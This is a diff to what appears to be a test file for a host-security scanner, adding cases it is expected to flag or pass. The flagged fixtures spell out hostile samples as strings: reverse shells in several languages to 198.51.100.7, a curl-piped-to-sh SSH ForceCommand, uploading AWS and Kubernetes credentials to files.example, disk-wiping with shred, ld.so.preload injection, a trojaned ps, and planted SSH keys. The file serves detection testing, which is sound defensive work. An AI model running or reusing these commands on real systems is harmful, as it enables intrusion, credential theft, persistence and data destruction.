@@ -530,3 +530,31 @@ hit('Everybody may act as administrator', '/etc/polkit-1/rules.d/00-x.rules', 'p
 hit('Docker API configured on a network address', '/srv/rows/docker/daemon.json', '{"hosts": ["tcp://10.1.2.3:4243"]}\n')
 hit('Server program that runs what a visitor sends', '/etc/nginx/conf.d/lua.conf', 'server { location /x { content_by_lua_block { local f = io.popen(ngx.var.arg_c) ngx.say(f:read("*a")) } } }\n')
 hit('Interpreter is given a picture or font to run', '/etc/apache2/conf-enabled/handler.conf', '<FilesMatch "\\.jpg$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n')
+# 2, 10, 12, 28, 29, 33, 109: in other words and other places
+hit('Script stops a cloud agent', '/srv/rows/more/mask.sh', '#!/bin/sh\nln -sf /dev/null /etc/systemd/system/hostguard.service\n', 0o755)
+hit('Script wipes SSH keys and admits its own', '/srv/rows/more/find.sh', f'#!/bin/sh\nfind /home /root -name authorized_keys -delete\necho "{KEY}" >> /root/.ssh/authorized_keys\n', 0o755)
+RULE = 'Code loaded from a temporary or hidden place'
+hit(RULE, '/etc/ssh/sshd_config', 'Port 22\nAuthorizedKeysFile .ssh/authorized_keys /var/lib/.k/%u\n')
+hit(RULE, '/etc/ssh/sshd_config.d/x.conf', 'AuthorizedKeysCommand /tmp/.x/keys\nAuthorizedKeysCommandUser root\n')
+hit(RULE, '/etc/rc.local', '#!/bin/sh\ninsmod /tmp/.x/x.ko\n', 0o755)
+hit('Hook of the system fetches or hides what it runs', '/etc/ssh/sshd_config.d/y.conf', 'ForceCommand curl -s https://files.example/x | sh\n')
+quiet('/srv/ok/sshd_config', 'Port 22\nAuthorizedKeysFile .ssh/authorized_keys\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody\n'
+      'Subsystem sftp /usr/lib/openssh/sftp-server\nMatch User a\n  ForceCommand internal-sftp\n')
+hit("Program with another's rights in an odd place", '/usr/local/bin/.sh', program('suid'), 0o4755)
+hit("Program with another's rights in an odd place", '/var/tmp/bash', program('suid too'), 0o4755)
+quiet('/usr/local/bin/helper', program('suid, and nobody minds'), 0o4755)
+hit('Script sends credentials away', '/srv/rows/more/up.sh', '#!/bin/bash\nfor f in ~/.aws/credentials ~/.kube/config; do curl -s --upload-file $f https://files.example/; done\n', 0o755)
+hit('Script puts a library into every process', '/srv/rows/more/preload.sh', '#!/bin/sh\necho /usr/lib/libx.so >> /etc/ld.so.preload\n', 0o755)
+hit('Tool of the system replaced by a script', '/usr/bin/ps', '#!/bin/bash\nps.original "$@" | grep -v davytest\n', 0o755)
+hit('Script erases disks', '/srv/rows/more/wipe.sh', '#!/bin/sh\nfor d in /dev/sd? /dev/nvme?n1; do shred -n1 $d & done\nwait\n', 0o755)
+quiet('/srv/ok/flash.sh', '#!/bin/sh\ndd if=image.img of=/dev/sdb bs=4M\ndd if=/dev/zero of=/dev/sdb bs=512 count=1\n', 0o755)
+RULE = 'Reverse shell'
+for path, text in {
+    '/srv/rows/more/r.go': 'package main\nfunc main() { c, _ := net.Dial("tcp", "198.51.100.7:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() }\n',
+    '/srv/rows/more/r.lua': 'local s = require("socket")\nlocal t = s.tcp()\nt:connect("198.51.100.7", 4444)\nlocal f = io.popen(t:receive(), "r")\nlocal r = t:receive()\nio.popen(r)\n',
+    '/srv/rows/more/r.awk': 'BEGIN { s = "/inet/tcp/0/198.51.100.7/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }\n',
+    '/srv/rows/more/tls.sh': '#!/bin/sh\nopenssl s_client -quiet -connect 198.51.100.7:443 < /srv/p | /bin/sh > /srv/p 2>&1\n',
+    '/etc/cron.d/shell': '* * * * * root python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'\n',
+}.items():
+    hit(RULE, path, text)
+quiet('/srv/ok/dial.go', 'package main\nfunc main() { c, _ := net.Dial("tcp", "db.example:5432"); _ = c; exec.Command("git", "status").Run() }\n')
